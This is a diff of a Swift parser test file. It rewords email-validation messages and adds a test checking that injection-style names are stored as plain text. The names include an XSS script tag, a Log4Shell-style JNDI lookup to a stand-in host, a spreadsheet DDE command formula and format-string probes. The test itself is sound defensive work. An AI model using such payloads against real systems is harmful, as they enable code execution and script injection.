@@ -135,25 +135,24 @@ import Testing
             "J22 a NUL", #""contact": {"email": "a@b\u0000.example"}"#, "3:111",
             "contact.email: the character U+0000 is not accepted"
         ) { $0.contact.email == nil },
-        .email(
-            "J23 quoted", #"\"a b\"@c.example"#, "a character before the @ that a plain address does not have"
-        ),
+        .email("J23 quoted", #"\"a b\"@c.example"#, "a quotation mark before the @"),
         .email("J23 two @", "a@b@c.example", "more than one @"),
-        .email("J23 no domain", "a@", "no host name of letters, digits and hyphens after the @"),
+        .email("J23 no domain", "a@", "nothing after the @"),
         .email("J23 no local part", "@b.example", "nothing before the @"),
-        .email("J23 two dots", "a@b..c", "no host name of letters, digits and hyphens after the @"),
+        .email("J23 two dots", "a@b..c", "a dot after the @ that does not stand between two names"),
         .email(
             "J23 parameters", "<a@b.example> NOTIFY=NEVER",
-            "a character before the @ that a plain address does not have"),
-        .email("J23 two addresses", "a@b.example,c@d.example", "more than one @"),
+            "an angle bracket: the address stands alone, without a name or parameters"),
+        .email(
+            "J23 two addresses", "a@b.example,c@d.example", "a comma or semicolon: more than one address"),
         .email(
             "J23 two addresses, one @", "a@b.example,c.example",
-            "no host name of letters, digits and hyphens after the @"),
+            "a comma or semicolon: more than one address"),
         .email(
             "J23 300 octets", String(repeating: "a", count: 290) + "@b.example",
             "longer than 64 octets before the @ or 253 after"),
         .email(
-            "J23 a literal", "a@[127.0.0.1]", "no host name of letters, digits and hyphens after the @"),
+            "J23 a literal", "a@[127.0.0.1]", "a number in brackets after the @, not the name of a host"),
         .email("J23 an alphabet beside ASCII", "a@bаnque.example", "a character outside ASCII"),
         .field(
             "J25 turned round", #""contact": {"last_name": "Du\u202epont"}"#, "3:111",
@@ -221,6 +220,18 @@ import Testing
                 == (lives ? ["2020-0301", "2020-0302", "2020-0303"] : ["2020-0301", "2020-0303"]))
         #expect(batch.refused.map(\.ref.text) == (row.fate == .held ? ["2020-0302"] : []))
         if lives { #expect(row.isHarmless(batch.records[1].openCase)) }
+    }
+
+    @Test(arguments: [
+        "<script>alert(1)</script>", "{{secret}}", "{{{detail}}}", "%s%n", "${jndi:ldap://x.example}",
+        "=cmd|' /C calc'!A0", "'><b>", "&lt;b&gt;", "-1+1", "@SUM(A1)",
+    ]) func `J26 a name that some machine would obey is a name`(name: String) throws {
+        let bad = caseText("2020-0302", #""contact": {"last_name": "\#(name)"}"#)
+        let text = "[\(caseText("2020-0301")),\n\(bad),\n\(caseText("2020-0303"))]"
+        let batch = try CaseBatch.read(Array(text.utf8), file: "cases.json", lines: false, rules: .autumn2020)
+        #expect(batch.problems == [])
+        #expect(batch.records.map(\.openCase.ref.text) == ["2020-0301", "2020-0302", "2020-0303"])
+        #expect(batch.records.map(\.openCase.contact.lastName) == [nil, name, nil])
     }
 
     // MARK: References
